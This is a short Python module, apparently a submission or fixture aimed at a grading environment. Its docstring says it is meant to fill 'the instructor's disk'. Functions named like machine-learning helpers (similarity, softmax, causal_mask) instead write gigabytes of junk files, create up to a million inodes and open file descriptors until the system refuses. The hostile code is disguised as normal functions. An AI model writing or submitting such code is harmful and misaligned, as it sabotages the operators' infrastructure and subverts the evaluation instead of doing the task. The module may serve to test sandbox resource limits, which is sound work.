"""Fills its disk, its inodes and its descriptors.

Success: the instructor's disk is full, even if only for a while.
"""

import contextlib
import os


def similarity(x):
    written = 0
    with contextlib.suppress(OSError):
        for number in range(1000):
            with open(f"/tmp/scratch/large-{number}", "wb") as file:
                for _ in range(32):
                    written += file.write(bytes(2**20))
    raise RuntimeError(f"tried: disk, {written >> 20} MB")


def softmax(x, axis=-1):
    made = 0
    with contextlib.suppress(OSError):
        for made in range(1_000_000):
            os.mknod(f"/tmp/scratch/{made}")
    raise RuntimeError(f"tried: inodes, {made}")


def causal_mask(length):
    opened = []
    try:
        while True:
            opened.append(os.open("/dev/null", os.O_RDONLY))
    except OSError:
        raise RuntimeError(f"tried: descriptors, {len(opened)}") from None
